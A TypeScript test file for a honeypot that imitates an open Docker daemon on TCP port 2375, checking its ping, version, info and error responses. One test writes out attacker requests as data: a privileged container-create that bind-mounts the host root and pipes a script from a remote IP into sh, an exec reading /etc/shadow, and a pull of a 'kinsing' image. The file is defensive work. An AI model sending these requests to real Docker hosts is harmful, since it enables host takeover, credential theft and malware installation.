// An open dockerd over real TCP (answers measured against Debian 12's docker.io 20.10.24 on tcp:2375):
// Go's header order and framing, the version checks of /v1.NN/, an empty host, and the attacker's
// next steps (create from an image, exec, pull) refused and logged with their bodies.
import { describe, expect, test } from "bun:test";
import { serviceEntries } from "../../src/catalog/index.ts";
import type { CatalogEntry } from "../../src/types.ts";
import { connect, startTestTrap } from "../helpers.ts";

const entries = serviceEntries("docker") as CatalogEntry[];
function entry(id: string): CatalogEntry {
  const e = entries.find((x) => x.id === id);
  if (!e) throw new Error(`no entry ${id}`);
  return e;
}

async function exchange(port: number, request: string, done: (s: string) => boolean): Promise<{ text: string; closed: boolean }> {
  const c = await connect(port);
  c.send(request);
  await c.waitFor((s) => done(s) || c.isClosed()).catch(() => undefined);
  await Bun.sleep(50);
  const closed = c.isClosed();
  c.end();
  return { text: c.text().replace(/Date: [^\r]+/g, "Date: D"), closed };
}

const DEBIAN_HEADERS = "Api-Version: 1.41\r\nContent-Type: application/json\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/20.10.24+dfsg1 (linux)\r\nDate: D\r\n";

describe("docker over TCP", () => {
  const e = entry("docker-20.10.24-debian12");

  test("_ping, OPTIONS and an unknown path, in Go's header order", async () => {
    const { trap } = startTestTrap(e);
    try {
      const ping = await exchange(trap.port, "GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n", (s) => s.endsWith("OK"));
      expect(ping.text).toBe(
        "HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nCache-Control: no-cache, no-store, must-revalidate\r\nDocker-Experimental: false\r\nOstype: linux\r\nPragma: no-cache\r\nServer: Docker/20.10.24+dfsg1 (linux)\r\nDate: D\r\nContent-Length: 2\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nOK",
      );
      expect(ping.closed).toBe(false);
      const options = await exchange(trap.port, "OPTIONS / HTTP/1.0\r\n\r\n", (s) => s.endsWith("\r\n\r\n"));
      expect(options.text).toBe("HTTP/1.0 200 OK\r\nApi-Version: 1.41\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/20.10.24+dfsg1 (linux)\r\nDate: D\r\nContent-Length: 0\r\n\r\n");
      expect(options.closed).toBe(true);
      const root = await exchange(trap.port, "GET / HTTP/1.0\r\n\r\n", (s) => s.endsWith("}\n"));
      expect(root.text).toBe('HTTP/1.0 404 Not Found\r\nContent-Type: application/json\r\nDate: D\r\nContent-Length: 29\r\n\r\n{"message":"page not found"}\n');
    } finally {
      trap.stop();
    }
  });

  test("/version and /info: the engine's facts; /info is chunked on HTTP/1.1 (over 2 KB) and holds the host's name", async () => {
    const { trap } = startTestTrap(e);
    try {
      const v = await exchange(trap.port, "GET /v1.41/version HTTP/1.1\r\nHost: x\r\n\r\n", (s) => s.endsWith("}\n"));
      const body = JSON.parse(v.text.slice(v.text.indexOf("\r\n\r\n") + 4));
      expect([body.Version, body.ApiVersion, body.MinAPIVersion, body.GitCommit, body.GoVersion, body.Os]).toEqual(["20.10.24+dfsg1", "1.41", "1.12", "5d6db84", "go1.19.8", "linux"]);
      const info = await exchange(trap.port, "GET /info HTTP/1.1\r\nHost: x\r\n\r\n", (s) => s.endsWith("0\r\n\r\n"));
      expect(info.text).toStartWith(`HTTP/1.1 200 OK\r\n${DEBIAN_HEADERS}Transfer-Encoding: chunked\r\n\r\n`);
      const chunked = info.text.slice(info.text.indexOf("\r\n\r\n") + 4);
      const size = Number.parseInt(chunked.slice(0, chunked.indexOf("\r\n")), 16);
      const doc = JSON.parse(Buffer.from(chunked.slice(chunked.indexOf("\r\n") + 2, chunked.indexOf("\r\n") + 2 + size), "latin1").toString("utf8"));
      expect(doc.ID).toMatch(/^([A-Z2-7]{4}:){11}[A-Z2-7]{4}$/);
      expect(doc.OperatingSystem).toBe("Debian GNU/Linux 12 (bookworm)");
      expect(doc.ServerVersion).toBe("20.10.24+dfsg1");
      expect(doc.Containers).toBe(0);
      expect(typeof doc.Name).toBe("string");
      expect(doc.Name.length).toBeGreaterThan(0);
    } finally {
      trap.stop();
    }
  });

  test("API version checks: too new is JSON 400, too old is text 400", async () => {
    const { trap } = startTestTrap(e);
    try {
      const hi = await exchange(trap.port, "GET /v1.99/version HTTP/1.0\r\n\r\n", (s) => s.endsWith("\n") && s.includes("{"));
      expect(hi.text).toEndWith('\r\n\r\n{"message":"client version 1.99 is too new. Maximum supported API version is 1.41"}\n');
      expect(hi.text).not.toContain("Docker-Experimental");
      const lo = await exchange(trap.port, "GET /v1.11/version HTTP/1.0\r\n\r\n", (s) => s.endsWith("version\n"));
      expect(lo.text).toContain("\r\nX-Content-Type-Options: nosniff\r\n");
      expect(lo.text).toEndWith("client version 1.11 is too old. Minimum supported API version is 1.12, please upgrade your client to a newer version\n");
    } finally {
      trap.stop();
    }
  });

  test("create, exec and pull are refused as on a host without the image or the container, and logged with their bodies", async () => {
    const { trap, sink } = startTestTrap(e);
    try {
      const create = '{"Image":"docker.io/library/alpine","Cmd":["sh","-c","curl -s http://203.0.113.9/x.sh|sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}';
      const exec = '{"AttachStdout":true,"Cmd":["cat","/etc/shadow"]}';
      const { text } = await exchange(
        trap.port,
        `POST /v1.41/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${create.length}\r\n\r\n${create}` +
          `POST /v1.41/containers/4f9a/exec HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${exec.length}\r\n\r\n${exec}` +
          "POST /images/create?fromImage=kinsing&tag=latest HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
        (s) => s.split("HTTP/1.1 ").length === 4 && s.endsWith("}\n"),
      );
      expect(text).toContain('404 Not Found\r\n' + DEBIAN_HEADERS + 'Content-Length: 43\r\n\r\n{"message":"No such image: alpine:latest"}\n');
      expect(text).toContain('{"message":"No such container: 4f9a"}\n');
      expect(text).toContain("HTTP/1.1 500 Internal Server Error\r\n");
      expect(sink.of("command").map((x) => x.command)).toEqual([
        `POST /v1.41/containers/create HTTP/1.1 ${create}`,
        `POST /v1.41/containers/4f9a/exec HTTP/1.1 ${exec}`,
        "POST /images/create?fromImage=kinsing&tag=latest HTTP/1.1",
      ]);
    } finally {
      trap.stop();
    }
  });

  test("garbage and a request without Host get net/http's own 400 and a close", async () => {
    const { trap, sink } = startTestTrap(e);
    try {
      const junk = await exchange(trap.port, "\r\n\r\n", () => false);
      expect(junk.text).toBe("HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request");
      expect(junk.closed).toBe(true);
      const nohost = await exchange(trap.port, "GET /version HTTP/1.1\r\n\r\n", () => false);
      expect(nohost.text).toBe("HTTP/1.1 400 Bad Request: missing required Host header\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request: missing required Host header");
      expect(sink.of("error").map((x) => x.message)).toEqual(["malformed HTTP request"]);
    } finally {
      trap.stop();
    }
  });
});
